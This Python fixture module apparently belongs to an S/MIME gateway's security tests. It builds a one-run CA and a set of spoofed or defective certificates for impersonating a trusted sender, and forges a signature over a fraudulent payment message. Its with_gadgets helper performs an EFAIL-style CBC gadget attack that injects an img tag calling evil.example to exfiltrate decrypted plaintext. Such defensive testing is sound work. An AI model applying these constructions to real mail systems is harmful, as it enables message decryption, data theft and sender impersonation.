"""Who is in the attacks, with a CA made for one run, and the MIME and CMS pieces they are made of.

Bob is whom the recipient trusts; Eve has a good certificate of the same CA for her own address.
Nothing private is ever written to a file.
"""

from __future__ import annotations

import base64
from dataclasses import dataclass, field
from functools import cached_property
from typing import Any

from cryptography import x509
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.serialization import Encoding, pkcs7

from smimegw.cms.algorithms import ContentCipher, key_encryption_for
from smimegw.cms.envelope import Recipient, encrypt, parse_enveloped
from smimegw.mime.entity import Entity
from smimegw.smime.sign import sign_clear, sign_opaque
from smimegw.x509.certificate import Certificate
from tests.fakes.pki import CA, NOW, PAST, SERVER_AUTH, Issued, make_ca, raw_rfc822
from tests.fakes.smime import signature_of, signer

EVE = "eve@evil.example"
SECRET = b"Sesame-4711-Sesame"
"""Stands in what is encrypted; whoever reads it in an attack's delivery has opened too much."""

TRUTH = b"Content-Type: text/plain\r\n\r\nThe price is 100 EUR.\r\n"
LIE = b"Content-Type: text/plain\r\n\r\nPay 900 EUR to Eve.\r\n"
# Headers as an attacker knows them, so that the body begins with a cipher block.
CONFIDENTIAL = (
    b"Content-Type: text/html; charset=utf-8\r\nX: 1\r\n\r\n" + b"<p>" + (SECRET + b" ") * 60
)
_BLOCK = 16


@dataclass(frozen=True)
class Cast:
    """Everybody of one run.

    Attributes:
        recipient: Whose mailbox is attacked.
        bob: Whom the messages claim to be from.
        authserv_id: The name in the gateway's Authentication-Results fields.
        certificate: The recipient's, so that ciphertexts are really hers; None for nobody's.
    """

    recipient: str = "alice@ours.example"
    bob: str = "bob@partner.example"
    authserv_id: str = "gw.ours.example"
    certificate: Certificate | None = None
    ca: CA = field(default_factory=lambda: make_ca("Attack CA"), repr=False)

    @cached_property
    def people(self) -> dict[str, Issued]:
        """Certificates by what is wrong with them; ``bob`` and ``eve`` are good."""
        issue, bob = self.ca.issue, self.bob
        eve: dict[str, Any] = {"slot": "eve", "key": "p256"}
        domain = bob.partition("@")[2]
        stranger = make_ca("Attack CA", slot="stranger")
        good = issue(bob, slot="bob", key="p256")
        return {
            "bob": good,
            "eve": issue(EVE, **eve),
            "stranger": stranger.issue(bob, **eve),
            "twin": stranger.issue(bob, **eve, serial_number=good.certificate.serial_number),
            "expired": issue(bob, **eve, not_after=PAST),
            "revoked": issue(bob, **eve),
            "web-server": issue(bob, **eve, eku=[SERVER_AUTH]),
            "encryption-only": issue(bob, **eve, usage="encrypt"),
            "name-only": issue(None, **eve, common_name=bob),
            "name-beside": issue(EVE, **eve, common_name=bob),
            "longer-domain": issue(f"{bob}.evil.example", **eve),
            "subdomain": issue(bob.replace("@", "@mail."), **eve),
            "tag": issue(bob.replace("@", "+x@"), **eve),
            "quoted": issue(**eve, san=[raw_rfc822(f'"{bob}"@evil.example')]),
            "whole-domain": issue(**eve, san=[raw_rfc822(domain)]),
        }

    @property
    def revoked(self) -> list[Issued]:
        """What the CA's list has to name."""
        return [self.people["revoked"]]

    def clear_signed(self, entity: bytes = TRUTH, by: str = "bob") -> bytes:
        """An honest multipart/signed entity."""
        return sign_clear(Entity.parse(entity), signer(self.people[by]), now=NOW).raw

    def opaque_signed(self, entity: bytes = TRUTH, by: str = "bob") -> bytes:
        """An honest signed-data entity."""
        return sign_opaque(Entity.parse(entity), signer(self.people[by]), now=NOW).raw

    def signature(self, entity: bytes = TRUTH, by: str = "bob") -> bytes:
        """A detached SignedData of *entity*."""
        return signature_of(Entity.parse(self.clear_signed(entity, by)))

    def signature_under(self, alternative_name: str) -> bytes:
        """Eve's detached SignedData of the lie; her certificate names whatever she wants."""
        eve = self.people["eve"]
        parsed = eve.certificate.parsed
        builder = (
            x509.CertificateBuilder()
            .issuer_name(parsed.issuer)
            .subject_name(parsed.subject)
            .public_key(parsed.public_key())
            .serial_number(x509.random_serial_number())
            .not_valid_before(parsed.not_valid_before_utc)
            .not_valid_after(parsed.not_valid_after_utc)
            .add_extension(x509.SubjectAlternativeName([raw_rfc822(alternative_name)]), False)
        )
        for extension in parsed.extensions:
            if not isinstance(extension.value, x509.SubjectAlternativeName):
                builder = builder.add_extension(extension.value, extension.critical)
        certificate = builder.sign(self.ca.key, hashes.SHA256())
        signing = pkcs7.PKCS7SignatureBuilder().set_data(LIE)
        options = [pkcs7.PKCS7Options.DetachedSignature, pkcs7.PKCS7Options.Binary]
        return signing.add_signer(certificate, eve.key, hashes.SHA256()).sign(Encoding.DER, options)

    def ciphertext(self, entity: bytes = CONFIDENTIAL, *, gcm: bool = False) -> bytes:
        """CMS that the recipient's key opens."""
        certificate = self.certificate or self.ca.issue(self.recipient).certificate
        recipient = Recipient(certificate, key_encryption_for(certificate, False))
        cipher = ContentCipher.AES_256_GCM if gcm else ContentCipher.AES_256_CBC
        return b"".join(encrypt((entity,), len(entity), [recipient], cipher))

    def encrypted(self, entity: bytes = CONFIDENTIAL) -> bytes:
        """An enveloped-data entity."""
        return p7m(self.ciphertext(entity), b"enveloped-data")


def p7m(cms: bytes, smime_type: bytes = b"signed-data") -> bytes:
    """application/pkcs7-mime around any octets."""
    return (
        b"Content-Type: application/pkcs7-mime; smime-type=" + smime_type + b"; name=smime.p7m\r\n"
        b"Content-Transfer-Encoding: base64\r\n\r\n" + lines(cms)
    )


def multipart_signed(
    content: bytes, signature: bytes, kind: bytes = b"application/pkcs7-signature"
) -> bytes:
    """multipart/signed of any two parts."""
    return (
        b'Content-Type: multipart/signed; protocol="application/pkcs7-signature"; '
        b'micalg=sha-256; boundary="outer"\r\n\r\n--outer\r\n' + content + b"\r\n--outer\r\n"
        b"Content-Type: " + kind + b"\r\nContent-Transfer-Encoding: base64\r\n\r\n"
        + lines(signature) + b"--outer--\r\n"
    )  # fmt: skip


def multipart(subtype: bytes, *parts: bytes) -> bytes:
    """Any other multipart."""
    body = b"".join(b"--frame\r\n" + part + b"\r\n" for part in parts)
    head = b"Content-Type: multipart/" + subtype + b'; boundary="frame"\r\n\r\n'
    return head + body + b"--frame--\r\n"


def html(text: bytes) -> bytes:
    """A text/html part."""
    return b"Content-Type: text/html\r\n\r\n" + text + b"\r\n"


def lines(octets: bytes) -> bytes:
    """Base64 in lines."""
    return base64.encodebytes(octets).replace(b"\n", b"\r\n")


def with_gadgets(octets: bytes) -> bytes:
    """Put chosen blocks between those of a CBC ciphertext whose first block is known (EFAIL)."""
    enveloped = parse_enveloped(octets)
    blocks = b"".join(enveloped.encrypted_content)
    first, known = blocks[:_BLOCK], CONFIDENTIAL[:_BLOCK]
    gadgets = b"".join(
        _xor(enveloped.nonce, known, text) + first
        for text in [b"<img src='http:/", b"/evil.example/?d"] * 12
    )
    head = CONFIDENTIAL.index(b"<p>")
    assert head % _BLOCK == 0
    changed = blocks[:head] + gadgets + blocks[head + len(gadgets) :]  # no length changes
    assert len(changed) == len(blocks)
    assert octets.count(blocks) == 1
    return octets.replace(blocks, changed)


def reordered(octets: bytes) -> bytes:
    """The blocks after the header in the opposite order."""
    blocks = b"".join(parse_enveloped(octets).encrypted_content)
    inner = [blocks[at : at + _BLOCK] for at in range(4 * _BLOCK, len(blocks) - 2 * _BLOCK, _BLOCK)]
    changed = blocks[: 4 * _BLOCK] + b"".join(reversed(inner)) + blocks[-2 * _BLOCK :]
    return octets.replace(blocks, changed)


def _xor(*values: bytes) -> bytes:
    return bytes(a ^ b ^ c for a, b, c in zip(*values, strict=True))
